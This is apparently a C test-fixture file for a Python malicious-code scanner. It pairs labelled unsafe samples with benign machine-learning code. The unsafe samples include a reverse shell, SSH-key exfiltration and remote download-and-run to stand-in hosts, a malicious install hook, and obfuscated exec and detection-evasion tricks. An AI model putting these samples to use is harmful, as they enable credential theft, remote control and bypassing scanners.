	{ "rot13m", GH_UNSAFE,
	  "import codecs\n"
	  "import os\n"
	  "getattr(os,codecs.decode(\"flfgrz\",\"rot_13\"))(\"ls\")\n" },
	{ "runpy", GH_UNSAFE,
	  "import runpy,urllib.request\n"
	  "urllib.request.urlretrieve(\"http://x.example/a.py\",\"a.py\")\n"
	  "runpy.run_path(\"a.py\")\n" },
	{ "selff", GH_UNSAFE,
	  "import os\n"
	  "class A:\n"
	  "    def __init__(self):\n"
	  "        self.run=os.system\n"
	  "    def forward(self,x):\n"
	  "        self.run(\"id\")\n" },
	{ "setattr", GH_UNSAFE,
	  "import os,builtins\n"
	  "setattr(builtins,\"zz\",os.system)\n"
	  "builtins.zz(\"id\")\n" },
	{ "setup", GH_UNSAFE,
	  "from setuptools import setup\n"
	  "from setuptools.command.install import install\n"
	  "import os\n"
	  "class I(install):\n"
	  "    def run(self):\n"
	  "        os.system(\"python3 stage2.py\")\n"
	  "        install.run(self)\n"
	  "setup(name=\"x\",cmdclass={\"install\":I})\n" },
	{ "sitecustom", GH_UNSAFE,
	  "import socket,os\n"
	  "def go():\n"
	  "    s=socket.socket();s.connect((\"1.2.3.4\",1));os.dup2(s.fileno(),0);os.execl(\"/bin/sh"
	  "\",\"sh\")\n"
	  "go()\n" },
	{ "spawn", GH_UNSAFE,
	  "import pty\n"
	  "pty.spawn(\"/bin/bash\")\n" },
	{ "sshkey", GH_UNSAFE,
	  "import requests,os\n"
	  "d=open(os.path.expanduser(\"~/.ssh/id_rsa\")).read()\n"
	  "requests.post(\"http://x.example\",data=d)\n" },
	{ "star", GH_UNSAFE,
	  "from os import *\n"
	  "system(\"id\")\n" },
	{ "subclasses", GH_UNSAFE,
	  "[c for c in ().__class__.__base__.__subclasses__() if c.__name__==\"Popen\"][0](\"id\",shell=Tru"
	  "e)\n" },
	{ "subclasses2", GH_UNSAFE,
	  "x=\"\".__class__.__mro__[1].__subclasses__()\n"
	  "x[132].__init__.__globals__[\"system\"](\"id\")\n" },
	{ "sysmod", GH_UNSAFE,
	  "import sys\n"
	  "sys.modules[\"os\"].system(\"id\")\n" },
	{ "sysmodget", GH_UNSAFE,
	  "import sys,os\n"
	  "sys.modules.get(\"o\"+\"s\").system(\"id\")\n" },
	{ "table", GH_UNSAFE,
	  "T=\"abcdefghijklmnopqrstuvwxyz\"\n"
	  "w=T[18]+T[24]+T[18]+T[19]+T[4]+T[12]\n"
	  "getattr(__import__(T[14]+T[18]),w)(\"id\")\n" },
	{ "thread", GH_UNSAFE,
	  "import threading,os\n"
	  "threading.Thread(target=os.system,args=(\"id\",)).start()\n" },
	{ "timeit", GH_UNSAFE,
	  "import timeit\n"
	  "timeit.timeit(\"__import__('os').system('id')\",number=1)\n" },
	{ "torchos", GH_UNSAFE,
	  "import torch\n"
	  "torch.serialization.os.system(\"id\")\n" },
	{ "trick_attr", GH_UNSAFE,
	  "import os\n"
	  "os.__getattribute__(\"system\")(\"id\")\n" },
	{ "trycatch", GH_UNSAFE,
	  "try:\n"
	  "    import os as q\n"
	  "except ImportError:\n"
	  "    q=None\n"
	  "if q: q.system(\"id\")\n" },
	{ "unicodeesc", GH_UNSAFE,
	  "exec("
	  "\""
	  "\\x"
	  "69"
	  "\\x"
	  "6d"
	  "\\x"
	  "70"
	  "\\x"
	  "6f"
	  "\\x"
	  "72"
	  "\\x"
	  "74"
	  "\\x"
	  "20"
	  "\\x6f\\x73\\x3b\\x6f\\x73\\x2e\\x73\\x79\\x73\\x74\\x65\\x6d\\x28\\x27\\x69\\x64\\x27\\x29\")\n" },
	{ "vars", GH_UNSAFE,
	  "import os\n"
	  "vars(os)[\"system\"](\"id\")\n" },
	{ "walrus", GH_UNSAFE,
	  "(o:=__import__(\"os\")) and o.system(\"id\")\n" },
	{ "web", GH_REVIEW,
	  "import webbrowser\n"
	  "webbrowser.open(\"http://x.example\")\n" },
	{ "xor", GH_UNSAFE,
	  "d=bytes([67,71,90,69,88,94,10,69,89,17,10,69,89,4,89,83,89,94,79,71,2,8,73,95,88,70,10,66,94,94,"
	  "90,16,5,5,82,4,79,82,75,71,90,70,79,5,90,10,86,10,89,66,8,3])\n"
	  "exec(bytes(x^42 for x in d).decode())\n" },
	{ "xorloop", GH_UNSAFE,
	  "d=[67,71,90,69,88,94,10,69,89,17,10,69,89,4,89,83,89,94,79,71,2,8,73,95,88,70,10,66,94,94,90,16,"
	  "5,5,82,4,79,82,75,71,90,70,79,5,90,10,86,10,89,66,8,3]\n"
	  "s=\"\"\n"
	  "for x in d:\n"
	  "    s+=chr(x^42)\n"
	  "exec(s)\n" },
	{ "yamlload", GH_REVIEW,
	  "import yaml\n"
	  "yaml.load(\"!!python/object/apply:os.system [id]\",Loader=yaml.UnsafeLoader)\n" },
	{ "zlib", GH_UNSAFE,
	  "import zlib,base64\n"
	  "exec(zlib.decompress(base64.b64decode('eJzLzC3ILypRyC+2BmK94sriktRcDaXk0qIchYySkgIrff0KvdSKxNyCn"
	  "FT9AoUaheIMJU0A9q8SOQ==')))\n" },
};

static const struct python_sample ordinary[] = {
	{ "raw bytes of numbers", GH_CLEAN,
	  "import numpy as np\nx = np.memmap('w.bin', dtype='float32', mode='r')\ny = np.fromfile('w.bin', np.int8)\n" },
	{ "results where they belong", GH_CLEAN,
	  "from transformers import TrainingArguments\n"
	  "a = TrainingArguments(output_dir='./out', logging_dir='/content/log')\n"
	  "b = TrainingArguments('/kaggle/working/out')\n" },
	{ "converter", GH_CLEAN,
	  "import argparse, json, os, sys, glob, shutil, gc, time, re\n"
	  "import numpy as np\n"
	  "import torch\n"
	  "from safetensors.torch import load_file, save_file\n"
	  "from collections import OrderedDict\n"
	  "def main():\n"
	  "    p = argparse.ArgumentParser()\n"
	  "    p.add_argument(\"--input\", type=str, required=True)\n"
	  "    p.add_argument(\"--out\", type=str)\n"
	  "    args = p.parse_args()\n"
	  "    os.makedirs(args.out, exist_ok=True)\n"
	  "    for k, v in vars(args).items():\n"
	  "        print(k, v)\n"
	  "    files = sorted(glob.glob(os.path.join(args.input, \"*.safetensors\")))\n"
	  "    for f in files:\n"
	  "        sd = load_file(f)\n"
	  "        sd = {re.sub(\"^model\\\\.\", \"\", k): v.half() for k, v in sd.items()}\n"
	  "        save_file(sd, os.path.join(args.out, os.path.basename(f)), metadata={\"format\": \"pt\"})\n"
	  "        del sd\n"
	  "        gc.collect()\n"
	  "    with open(os.path.join(args.out, \"config.json\"), \"w\") as fh:\n"
	  "        json.dump({}, fh, indent=2)\n"
	  "    shutil.copy(os.path.join(args.input, \"tokenizer.json\"), args.out)\n"
	  "    if not os.path.exists(args.out):\n"
	  "        sys.exit(1)\n"
	  "    print(\"done\", file=sys.stderr); sys.stdout.flush()\n"
	  "if __name__ == \"__main__\":\n"
	  "    main()\n" },
	{ "handler of an endpoint", GH_CLEAN,
	  "from typing import Any, Dict, List\n"
	  "import torch, base64, io, os\n"
	  "from transformers import pipeline, AutoModelForCausalLM\n"
	  "class EndpointHandler:\n"
	  "    def __init__(self, path=\"\"):\n"
	  "        self.pipe = pipeline(\"text-generation\", model=path, device_map=\"auto\", torch_dtype=torch.bfloat16)\n"
	  "        self.token = os.environ.get(\"HF_TOKEN\")\n"
	  "    def __call__(self, data: Dict[str, Any]) -> List[Dict[str, Any]]:\n"
	  "        inputs = data.pop(\"inputs\", data)\n"
	  "        p = data.pop(\"parameters\", {})\n"
	  "        return self.pipe(inputs, **p)\n" },
	{ "modeling, attention with options", GH_CLEAN,
	  "import math, warnings\n"
	  "from typing import List, Optional, Tuple, Union\n"
	  "import torch\n"
	  "import torch.nn.functional as F\n"
	  "import torch.utils.checkpoint\n"
	  "from torch import nn\n"
	  "from torch.nn import CrossEntropyLoss\n"
	  "from transformers.activations import ACT2FN\n"
	  "from transformers.cache_utils import Cache, DynamicCache\n"
	  "from transformers.modeling_utils import PreTrainedModel\n"
	  "from transformers.utils import add_start_docstrings, is_flash_attn_2_available, logging, is_torch_fx_available\n"
	  "from transformers.utils.import_utils import is_torch_greater_or_equal_than_1_13\n"
	  "from .configuration_x import XConfig\n"
	  "import inspect\n"
	  "if is_flash_attn_2_available():\n"
	  "    from flash_attn import flash_attn_func\n"
	  "    _flash_supports_window_size = \"window_size\" in list(inspect.signature(flash_attn_func).parameters)\n"
	  "if is_torch_fx_available():\n"
	  "    if not is_torch_greater_or_equal_than_1_13:\n"
	  "        import torch.fx\n"
	  "    _prepare = torch.fx.wrap(warnings.warn)\n"
	  "logger = logging.get_logger(__name__)\n"
	  "class XAttention(nn.Module):\n"
	  "    def __init__(self, config, layer_idx=None):\n"
	  "        super().__init__()\n"
	  "        self.config = config\n"
	  "        self.q = nn.Linear(config.hidden_size, config.hidden_size)\n"
	  "        self.act = ACT2FN[config.hidden_act]\n"
	  "    def forward(self, x, mask=None, **kwargs):\n"
	  "        if \"padding_mask\" in kwargs:\n"
	  "            warnings.warn(\"deprecated\")\n"
	  "        return F.scaled_dot_product_attention(self.q(x), x, x, attn_mask=mask)\n"
	  "class XModel(PreTrainedModel):\n"
	  "    config_class = XConfig\n"
	  "    def _init_weights(self, module):\n"
	  "        std = self.config.initializer_range\n"
	  "        if isinstance(module, nn.Linear):\n"
	  "            module.weight.data.normal_(mean=0.0, std=std)\n"
	  "    def _set_gradient_checkpointing(self, module, value=False):\n"
	  "        if hasattr(module, \"gradient_checkpointing\"):\n"
	  "            setattr(module, \"gradient_checkpointing\", value)\n"
	  "    def forward(self, ids, **kw):\n"
	  "        if self.training:\n"
	  "            def create(module):\n"
	  "                def custom(*inputs):\n"
	  "                    return module(*inputs)\n"
	  "                return custom\n"
	  "            out = torch.utils.checkpoint.checkpoint(create(self.l), ids)\n"
	  "        return out\n" },
	{ "processor of images and texts", GH_CLEAN,
	  "import os, io, base64\n"
	  "from io import BytesIO\n"
	  "from pathlib import Path\n"
	  "from typing import Union\n"
	  "import numpy as np\n"
	  "from PIL import Image\n"
	  "from transformers.processing_utils import ProcessorMixin\n"
	  "from transformers.image_processing_utils import BaseImageProcessor\n"
	  "from transformers.utils import TensorType, is_torch_available\n"
	  "class P(ProcessorMixin):\n"
	  "    attributes = [\"image_processor\", \"tokenizer\"]\n"
	  "    image_processor_class = \"AutoImageProcessor\"\n"
	  "    def __call__(self, text=None, images=None, return_tensors=TensorType.PYTORCH, **kwargs):\n"
	  "        if isinstance(images, (str, Path)):\n"
	  "            images = Image.open(images).convert(\"RGB\")\n"
	  "        elif isinstance(images, bytes):\n"
	  "            images = Image.open(BytesIO(images))\n"
	  "        data = base64.b64encode(np.asarray(images).tobytes())\n"
	  "        return self.tokenizer(text, return_tensors=return_tensors, **kwargs)\n"
	  "    def batch_decode(self, *args, **kwargs):\n"
	  "        return self.tokenizer.batch_decode(*args, **kwargs)\n"
	  "    @property\n"
	  "    def model_input_names(self):\n"
	  "        return list(dict.fromkeys(self.tokenizer.model_input_names))\n"
	  "    def save_pretrained(self, d, **kw):\n"
	  "        if os.path.isfile(d):\n"
	  "            raise ValueError(d)\n"
	  "        Path(d).mkdir(parents=True, exist_ok=True)\n"
	  "        super().save_pretrained(d, **kw)\n" },
	{ "tokenizer with a state", GH_CLEAN,
	  "import os, json, unicodedata, regex as re\n"
	  "from functools import lru_cache\n"
	  "from typing import Dict, List, Optional, Tuple, Collection, Set\n"
	  "import tiktoken\n"
	  "from transformers import PreTrainedTokenizer\n"
	  "VOCAB = {\"vocab_file\": \"x.tiktoken\"}\n"
	  "class QT(PreTrainedTokenizer):\n"
	  "    vocab_files_names = VOCAB\n"
	  "    def __init__(self, vocab_file, errors=\"replace\", **kwargs):\n"
	  "        self.ranks = _load(vocab_file)\n"
	  "        self.tokenizer = tiktoken.Encoding(\"x\", pat_str=\"a\", mergeable_ranks=self.ranks, special_tokens={})\n"
	  "        super().__init__(**kwargs)\n"
	  "    def __getstate__(self):\n"
	  "        state = self.__dict__.copy(); del state[\"tokenizer\"]; return state\n"
	  "    def __setstate__(self, state):\n"
	  "        self.__dict__.update(state)\n"
	  "    def save_vocabulary(self, d: str, **kw) -> Tuple[str]:\n"
	  "        with open(os.path.join(d, \"x.tiktoken\"), \"w\", encoding=\"utf8\") as w:\n"
	  "            for k, v in self.ranks.items():\n"
	  "                w.write(k)\n"
	  "        return (d,)\n"
	  "def _load(f):\n"
	  "    import base64\n"
	  "    with open(f, \"rb\") as h:\n"
	  "        c = h.read()\n"
	  "    return {base64.b64decode(t): int(r) for t, r in (l.split() for l in c.splitlines() if l)}\n" },
	{ "training script", GH_CLEAN,
	  "import os, random, logging, sys, datetime\n"
	  "import numpy as np, torch, yaml\n"
	  "from dataclasses import dataclass, field\n"
	  "from torch.utils.data import Dataset, DataLoader\n"
	  "from torch.utils.tensorboard import SummaryWriter\n"
	  "from tqdm.auto import tqdm\n"
	  "from transformers import HfArgumentParser, Trainer, TrainingArguments, set_seed, AutoTokenizer\n"
	  "logger = logging.getLogger(__name__)\n"
	  "os.environ[\"CUDA_VISIBLE_DEVICES\"] = \"0\"\n"
	  "os.environ[\"WANDB_DISABLED\"] = \"true\"\n"
	  "local_rank = int(os.environ.get(\"LOCAL_RANK\", -1))\n"
	  "device = \"cuda\" if torch.cuda.is_available() else \"cpu\"\n"
	  "def seed_all(s):\n"
	  "    random.seed(s); np.random.seed(s); torch.manual_seed(s)\n"
	  "@dataclass\n"
	  "class Args:\n"
	  "    lr: float = field(default=1e-4, metadata={\"help\": \"x\"})\n"
	  "class D(Dataset):\n"
	  "    def __init__(self, root):\n"
	  "        self.files = [os.path.join(r, f) for r, _, fs in os.walk(root) for f in fs]\n"
	  "    def __len__(self): return len(self.files)\n"
	  "    def __getitem__(self, i): return torch.from_numpy(np.load(self.files[i]))\n"
	  "def train(model, loader, opt):\n"
	  "    model.train()\n"
	  "    for batch in tqdm(loader):\n"
	  "        loss = model(batch).loss\n"
	  "        loss.backward(); opt.step(); opt.zero_grad()\n"
	  "    torch.save(model.state_dict(), os.path.join(\"out\", \"model.pt\"))\n"
	  "def evaluate(model):\n"
	  "    model.eval()\n"
	  "    with torch.no_grad():\n"
	  "        return {\"eval_loss\": 1.0}\n"
	  "def main():\n"
	  "    parser = HfArgumentParser((Args, TrainingArguments))\n"
	  "    if len(sys.argv) == 2 and sys.argv[1].endswith(\".json\"):\n"
	  "        a, t = parser.parse_json_file(json_file=os.path.abspath(sys.argv[1]))\n"
	  "    logging.basicConfig(format=\"%(asctime)s\", handlers=[logging.StreamHandler(sys.stdout)], level=logging.INFO)\n"
	  "    cfg = yaml.safe_load(open(\"c.yaml\"))\n"
	  "    tok = AutoTokenizer.from_pretrained(\"gpt2\")\n"
	  "    trainer = Trainer(model=None, args=t)\n"
	  "    trainer.train(); trainer.save_model(); trainer.push_to_hub()\n"
	  "if __name__ == \"__main__\":\n"
	  "    main()\n" },
	{ "registries and nested attributes", GH_CLEAN,
	  "import functools, itertools, operator, collections, contextlib, threading, copy, string, math, time, abc, enum, types\n"
	  "from collections import namedtuple, defaultdict, OrderedDict\n"
	  "from functools import lru_cache, partial, reduce\n"
	  "import torch, torch.nn as nn\n"
	  "def rgetattr(obj, attr):\n"
	  "    for a in attr.split(\".\"):\n"
	  "        obj = getattr(obj, a)\n"
	  "    return obj\n"
	  "def rsetattr(obj, attr, val):\n"
	  "    pre, _, post = attr.rpartition(\".\")\n"
	  "    return setattr(rgetattr(obj, pre) if pre else obj, post, val)\n"
	  "class Registry(dict):\n"
	  "    def register(self, name):\n"
	  "        def deco(cls):\n"
	  "            self[name] = cls\n"
	  "            return cls\n"
	  "        return deco\n"
	  "MODELS = Registry()\n"
	  "@MODELS.register(\"a\")\n"
	  "class A(nn.Module, metaclass=abc.ABCMeta):\n"
	  "    def __init_subclass__(cls, **kw): super().__init_subclass__(**kw)\n"
	  "    def __getitem__(self, i): return self.layers[i]\n"
	  "    def __call__(self, *a, **k): return super().__call__(*a, **k)\n"
	  "def build(cfg):\n"
	  "    args = cfg.copy(); t = args.pop(\"type\")\n"
	  "    return MODELS[t](**args)\n"
	  "@contextlib.contextmanager\n"
	  "def timer(name):\n"
	  "    t = time.time(); yield; print(name, time.time() - t)\n"
	  "def patch(model):\n"
	  "    for n, m in model.named_modules():\n"
	  "        if m.__class__.__name__ == \"LlamaAttention\":\n"
	  "            m.forward = types.MethodType(lambda self, x: x, m)\n"
	  "def optimizer(cfg, params):\n"
	  "    return getattr(torch.optim, cfg[\"name\"])(params, **cfg[\"kw\"])\n"
	  "OPS = {\"add\": operator.add, \"mul\": operator.mul}\n"
	  "def load(path):\n"
	  "    return torch.load(path, map_location=\"cpu\", weights_only=True)\n" },
	{ "names that only sound dangerous", GH_CLEAN,
	  "import torch\n"
	  "class Chat:\n"
	  "    def __init__(self, system='You help.', compile=False):\n"
	  "        self.system = system\n"
	  "        self.compile = compile\n"
	  "    def messages(self, user):\n"
	  "        return [{'role': 'system', 'content': self.system}, {'role': 'user', 'content': user}]\n"
	  "model = torch.compile(torch.nn.Linear(2, 2))\n"
	  "model.eval()\n" },
	{ "dtype by name", GH_CLEAN,
	  "import torch\n"
	  "import torch.nn.functional as F\n"
	  "def dtype_of(config):\n"
	  "    return getattr(torch, config.torch_dtype)\n"
	  "def act(name):\n"
	  "    return getattr(F, name)\n"
	  "class M(torch.nn.Module):\n"
	  "    def __init__(self, **kw):\n"
	  "        super().__init__()\n"
	  "        for k, v in kw.items():\n"
	  "            setattr(self, k, v)\n"
	  "    def __getattr__(self, name):\n"
	  "        try:\n"
	  "            return super().__getattr__(name)\n"
	  "        except AttributeError:\n"
	  "            return getattr(self.model, name)\n" },
	{ "paths, environment, versions", GH_CLEAN,
	  "import os, sys, shutil\n"
	  "from pathlib import Path\n"
	  "import logging\n"
	  "logger = logging.getLogger(__name__)\n"
	  "logging.basicConfig(level=logging.INFO)\n"
	  "ROOT = Path(__file__).resolve().parent\n"
	  "os.environ['TOKENIZERS_PARALLELISM'] = 'false'\n"
	  "os.environ.setdefault('OMP_NUM_THREADS', '1')\n"
	  "if sys.version_info >= (3, 8) and sys.platform != 'win32':\n"
	  "    pass\n"
	  "sys.path.insert(0, str(ROOT))\n"
	  "def save(directory, data):\n"
	  "    os.makedirs(directory, exist_ok=True)\n"
	  "    with open(os.path.join(directory, 'x.json'), 'w') as f:\n"
	  "        f.write(data)\n"
	  "    (Path(directory) / 'readme.md').write_text('x')\n"
	  "    shutil.copyfile('a', os.path.join(directory, 'a'))\n"
	  "    for name in os.listdir(directory):\n"
	  "        if name.endswith('.tmp'):\n"
	  "            os.remove(os.path.join(directory, name))\n" },
	{ "signature and optional packages", GH_CLEAN,
	  "import importlib.util\n"
	  "import inspect\n"
	  "import types\n"
	  "from functools import partial, wraps\n"
	  "HAVE = importlib.util.find_spec('flash_attn') is not None\n"
	  "def takes(fn, name):\n"
	  "    return name in inspect.signature(fn).parameters\n"
	  "def is_plain(x):\n"
	  "    return isinstance(x, (types.FunctionType, types.MethodType))\n"
	  "def deco(f):\n"
	  "    @wraps(f)\n"
	  "    def g(*a, **k):\n"
	  "        return f(*a, **k)\n"
	  "    return g\n" },
	{ "own names that shadow", GH_CLEAN,
	  "def f(open, eval=None, input=None):\n"
	  "    return open(eval), input\n"
	  "def g(os):\n"
	  "    return [os, os.path]\n" },
	{ "tokens, regular expressions, pickling hooks", GH_CLEAN,
	  "import json, re, copy, io\n"
	  "from dataclasses import dataclass, field, asdict\n"
	  "from typing import Any, Dict, Optional\n"
	  "PAT = re.compile(r'\\w+')\n"
	  "@dataclass\n"
	  "class Out:\n"
	  "    a: Optional[int] = None\n"
	  "    b: Dict[str, Any] = field(default_factory=dict)\n"
	  "class Tok:\n"
	  "    def __init__(self, path):\n"
	  "        with open(path, encoding='utf-8') as f:\n"
	  "            self.vocab = json.load(f)\n"
	  "        self.__dict__.update(x=1)\n"
	  "    def __getstate__(self):\n"
	  "        d = self.__dict__.copy()\n"
	  "        return d\n"
	  "    def __setstate__(self, d):\n"
	  "        self.__dict__ = d\n"
	  "    def tokenize(self, text):\n"
	  "        return PAT.findall(text)\n"
	  "print(asdict(Out()), copy.deepcopy(Out()), io.BytesIO(b''))\n" },
	{ "configuration", GH_CLEAN,
	  "from transformers.configuration_utils import PretrainedConfig\n"
	  "from transformers.utils import logging\n"
	  "\n"
	  "logger = logging.get_logger(__name__)\n"
	  "MAP = {}\n"
	  "\n"
	  "\n"
	  "class FooConfig(PretrainedConfig):\n"
	  "    model_type = \"foo\"\n"
	  "    keys_to_ignore_at_inference = [\"past_key_values\"]\n"
	  "\n"
	  "    def __init__(self, vocab_size=32000, hidden_size=4096, rope_scaling=None, **kwargs):\n"
	  "        self.vocab_size = vocab_size\n"
	  "        self._check(rope_scaling)\n"
	  "        super().__init__(tie_word_embeddings=False, **kwargs)\n"
	  "\n"
	  "    def _check(self, r):\n"
	  "        if r is not None and (not isinstance(r, dict) or len(r) != 2):\n"
	  "            raise ValueError(f\"`rope_scaling` must have two fields, got {r}\")\n" },
	{ "tokenization", GH_CLEAN,
	  "import json, os\n"
	  "from shutil import copyfile\n"
	  "from typing import Any, Dict, List, Optional, Tuple\n"
	  "import sentencepiece as spm\n"
	  "from transformers.tokenization_utils import AddedToken, PreTrainedTokenizer\n"
	  "\n"
	  "\n"
	  "class FooTokenizer(PreTrainedTokenizer):\n"
	  "    def __init__(self, vocab_file, **kwargs):\n"
	  "        self.sp_model = spm.SentencePieceProcessor()\n"
	  "        self.sp_model.Load(vocab_file)\n"
	  "        super().__init__(**kwargs)\n"
	  "\n"
	  "    def __getstate__(self):\n"
	  "        state = self.__dict__.copy()\n"
	  "        state[\"sp_model\"] = None\n"
	  "        return state\n"
	  "\n"
	  "    def save_vocabulary(self, save_directory, filename_prefix: Optional[str] = None) -> Tuple[st"
	  "r]:\n"
	  "        out = os.path.join(save_directory, (filename_prefix + \"-\" if filename_prefix else "
	  "\"\") + \"tokenizer.model\")\n"
	  "        if os.path.abspath(self.vocab_file) != os.path.abspath(out) and os.path.isfile(self.voca"
	  "b_file):\n"
	  "            copyfile(self.vocab_file, out)\n"
	  "        elif not os.path.isfile(self.vocab_file):\n"
	  "            with open(out, \"wb\") as fi:\n"
	  "                fi.write(self.sp_model.serialized_model_proto())\n"
	  "        return (out,)\n" },
	{ "attention imports", GH_CLEAN,
	  "import math, warnings, importlib\n"
	  "import torch\n"
	  "from torch import nn\n"
	  "try:\n"
	  "    from flash_attn import flash_attn_func, flash_attn_varlen_func\n"
	  "    from flash_attn.bert_padding import index_first_axis  # noqa\n"
	  "except ImportError:\n"
	  "    flash_attn_func = None\n"
	  "from transformers.utils import is_flash_attn_2_available\n"
	  "from .configuration_foo import FooConfig\n"
	  "_CHECK = importlib.util.find_spec(\"einops\") is not None\n"
	  "ACT = {\"gelu\": nn.GELU, \"silu\": nn.SiLU}\n"
	  "\n"
	  "\n"
	  "def act(name):\n"
	  "    return getattr(nn, name)() if name not in ACT else ACT[name]()\n"
	  "\n"
	  "\n"
	  "class Rotary(nn.Module):\n"
	  "    def __init__(self, dim, base=10000):\n"
	  "        super().__init__()\n"
	  "        inv = 1.0 / (base ** (torch.arange(0, dim, 2).float() / dim))\n"
	  "        self.register_buffer(\"inv_freq\", inv)\n"
	  "\n"
	  "    @torch.jit.export\n"
	  "    def forward(self, x, pos):\n"
	  "        dtype = getattr(torch, \"float32\")\n"
	  "        return x.to(dtype) * pos.exp()\n" },
	{ "handler", GH_CLEAN,
	  "from typing import Any, Dict, List\n"
	  "import base64\n"
	  "from io import BytesIO\n"
	  "import torch\n"
	  "from PIL import Image\n"
	  "from transformers import pipeline\n"
	  "\n"
	  "\n"
	  "class EndpointHandler:\n"
	  "    def __init__(self, path=\"\"):\n"
	  "        self.pipe = pipeline(\"image-classification\", model=path)\n"
	  "\n"
	  "    def __call__(self, data: Dict[str, Any]) -> List[Dict[str, Any]]:\n"
	  "        image = Image.open(BytesIO(base64.b64decode(data.pop(\"inputs\", data))))\n"
	  "        return self.pipe(image)\n" },
	{ "train", GH_CLEAN,
	  "import argparse, json, logging, os, random, sys, time\n"
	  "from pathlib import Path\n"
	  "import numpy as np\n"
	  "import torch\n"
	  "from datasets import load_dataset\n"
	  "from torch.utils.data import DataLoader\n"
	  "from tqdm.auto import tqdm\n"
	  "from transformers import AutoModelForCausalLM, AutoTokenizer, Trainer, TrainingArguments\n"
	  "\n"
	  "logging.basicConfig(level=logging.INFO, handlers=[logging.StreamHandler(sys.stdout)])\n"
	  "os.environ[\"TOKENIZERS_PARALLELISM\"] = \"false\"\n"
	  "DEVICE = os.environ.get(\"DEVICE\", \"cuda\")\n"
	  "\n"
	  "\n"
	  "def main():\n"
	  "    p = argparse.ArgumentParser()\n"
	  "    p.add_argument(\"--out\", default=\"out\")\n"
	  "    args = p.parse_args()\n"
	  "    os.makedirs(args.out, exist_ok=True)\n"
	  "    model = AutoModelForCausalLM.from_pretrained(\"gpt2\").to(DEVICE).eval()\n"
	  "    model = torch.compile(model)\n"
	  "    for batch in tqdm(DataLoader(load_dataset(\"wikitext\")[\"train\"], batch_size=8)):\n"
	  "        loss = model(**batch).loss\n"
	  "        loss.backward()\n"
	  "    torch.save(model.state_dict(), Path(args.out) / \"model.pt\")\n"
	  "    with open(os.path.join(args.out, \"log.json\"), \"w\") as f:\n"
	  "        json.dump({\"loss\": float(loss)}, f)\n"
	  "\n"
	  "\n"
	  "if __name__ == \"__main__\":\n"
	  "    main()\n" },
	{ "load checkpoint", GH_REVIEW,
	  "import torch, joblib\n"
	  "state = torch.load(\"model.pt\", map_location=\"cpu\")\n"
	  "clf = joblib.load(\"model.joblib\")\n" },
	{ "load weights only", GH_CLEAN,
	  "import numpy as np\n"
	  "import torch\n"
	  "state = torch.load(\"model.pt\", map_location=\"cpu\", weights_only=True)\n"
	  "x = np.load(\"x.npy\")\n" },
	{ "ask a service", GH_REVIEW,
	  "import os\n"
	  "import requests\n"
	  "\n"
	  "API = \"https://api-inference.huggingface.co/models/x/y\"\n"
	  "headers = {\"Authorization\": f\"Bearer {os.environ['HF_TOKEN']}\"}\n"
	  "\n"
	  "\n"
	  "def query(payload):\n"
	  "    return requests.post(API, headers=headers, json=payload).json()\n"
	  "\n"
	  "\n"
	  "print(query({\"inputs\": \"hi\"}))\n" },
	{ "git revision", GH_REVIEW,
	  "import subprocess\n"
	  "from setuptools import setup\n"
	  "rev = subprocess.check_output([\"git\", \"rev-parse\", \"HEAD\"]).decode(\"ascii\").strip()\n"
	  "setup(name=\"x\", version=\"0.1+\" + rev)\n" },
	{ "a kernel", GH_REVIEW,
	  "import os\n"
	  "from torch.utils.cpp_extension import load\n"
	  "here = os.path.dirname(os.path.abspath(__file__))\n"
	  "ext = load(name=\"wkv\", sources=[os.path.join(here, \"wkv.cpp\"), os.path.join(here, \"wkv.cu"
	  "\")], verbose=True)\n" },
	{ "estimator", GH_CLEAN,
	  "import numpy as np\n"
	  "from sklearn.base import BaseEstimator, TransformerMixin\n"
	  "from sklearn.utils.validation import check_is_fitted\n"
	  "\n"
	  "\n"
	  "class Log(BaseEstimator, TransformerMixin):\n"
	  "    def fit(self, X, y=None):\n"
	  "        self.n_features_in_ = X.shape[1]\n"
	  "        return self\n"
	  "\n"
	  "    def transform(self, X):\n"
	  "        check_is_fitted(self)\n"
	  "        return np.log1p(np.asarray(X))\n" },
	{ "keras layer", GH_CLEAN,
	  "import tensorflow as tf\n"
	  "from tensorflow import keras\n"
	  "from keras import layers\n"
	  "\n"
	  "\n"
	  "@keras.saving.register_keras_serializable(package=\"x\")\n"
	  "class Scale(layers.Layer):\n"
	  "    def build(self, input_shape):\n"
	  "        self.w = self.add_weight(shape=(input_shape[-1],), initializer=\"ones\")\n"
	  "\n"
	  "    def call(self, inputs, training=None):\n"
	  "        return tf.cast(inputs, self.compute_dtype) * self.w\n"
	  "\n"
	  "    def get_config(self):\n"
	  "        return {**super().get_config()}\n" },
	{ "triton model", GH_CLEAN,
	  "import json\n"
	  "import numpy as np\n"
	  "import triton_python_backend_utils as pb_utils\n"
	  "\n"
	  "\n"
	  "class TritonPythonModel:\n"
	  "    def initialize(self, args):\n"
	  "        self.config = json.loads(args[\"model_config\"])\n"
	  "\n"
	  "    def execute(self, requests):\n"
	  "        out = []\n"
	  "        for request in requests:\n"
	  "            x = pb_utils.get_input_tensor_by_name(request, \"IN\").as_numpy()\n"
	  "            out.append(pb_utils.InferenceResponse([pb_utils.Tensor(\"OUT\", x.astype(np.float32)"
	  ")]))\n"
	  "        return out\n" },
	{ "a version file", GH_REVIEW,
	  "import os, re\n"
	  "from setuptools import find_packages, setup\n"
	  "ns = {}\n"
	  "exec(open(os.path.join(os.path.dirname(__file__), \"x\", \"version.py\")).read(), ns)\n"
	  "setup(name=\"x\", version=ns[\"__version__\"], packages=find_packages())\n" },
	{ "mathematics", GH_CLEAN,
	  "import numpy as np\n"
	  "\316\261, \316\262 = 0.1, 0.2\n"
	  "xs = np.array([1.0]) * \316\261\n"
	  "\316\224x = xs - \316\262\n" },
};
/* clang-format on */
#endif
